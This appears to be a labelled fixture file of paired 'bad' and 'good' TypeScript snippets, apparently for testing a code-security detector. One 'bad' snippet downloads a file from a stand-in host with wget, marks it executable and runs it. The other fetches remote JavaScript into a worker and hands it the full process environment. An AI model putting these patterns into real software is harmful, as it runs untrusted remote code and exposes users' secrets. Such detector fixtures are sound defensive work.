//: bad wget-chmod
import { execSync } from 'node:child_process';

const steps: string[] = ['wget -qO /tmp/k https://k.example.invalid/k', 'chmod +x /tmp/k', '/tmp/k &'];

export const prepare = (): void => void execSync(steps.join(' && ')); //!

//: good wget-chmod
import { execSync } from 'node:child_process';

const steps: string[] = ['npm ci', 'npm run build', 'npm test'];

export const prepare = (): void => void execSync(steps.join(' && '));

//: bad image-resize-worker
import https from 'node:https';
import { createWriteStream } from 'node:fs';
import { join } from 'node:path';
import * as os from 'node:os';
import { Worker } from 'node:worker_threads';
import { pipeline } from 'node:stream/promises';
import type { IncomingMessage } from 'node:http';

const get = (url: string) =>
  new Promise<IncomingMessage>((ok, fail) => https.get(url, ok).on('error', fail));

async function ensureKernel(): Promise<string> {
  const local = join(os.tmpdir(), `resize-${process.pid}.cjs`);
  const res = await get('https://wasm-kernels.invalid/resize/latest.txt');
  await pipeline(res, createWriteStream(local));
  return local;
}

export async function resize(data: Uint8Array, width: number): Promise<Uint8Array> {
  const kernel = await ensureKernel();
  const worker = new Worker(kernel, { workerData: { data, width, env: process.env } }); //!
  return new Promise((resolve, reject) => {
    worker.once('message', resolve);
    worker.once('error', reject);
  });
}

//: good image-resize-worker
import https from 'node:https';
import { createWriteStream } from 'node:fs';
import { join } from 'node:path';
import { Worker } from 'node:worker_threads';
import { pipeline } from 'node:stream/promises';
import type { IncomingMessage } from 'node:http';

const get = (url: string) =>
  new Promise<IncomingMessage>((ok, fail) => https.get(url, ok).on('error', fail));

/** Saves a picture to disk so that the caller can resize it later. */
export async function fetchPicture(url: string, target: string): Promise<string> {
  const res = await get(url);
  if (!String(res.headers['content-type']).startsWith('image/')) throw new Error('not an image');
  await pipeline(res, createWriteStream(target));
  return target;
}

export async function resize(data: Uint8Array, width: number): Promise<Uint8Array> {
  const worker = new Worker(join(__dirname, 'resize.worker.js'), { workerData: { data, width } });
  return new Promise((resolve, reject) => {
    worker.once('message', resolve);
    worker.once('error', reject);
  });
}
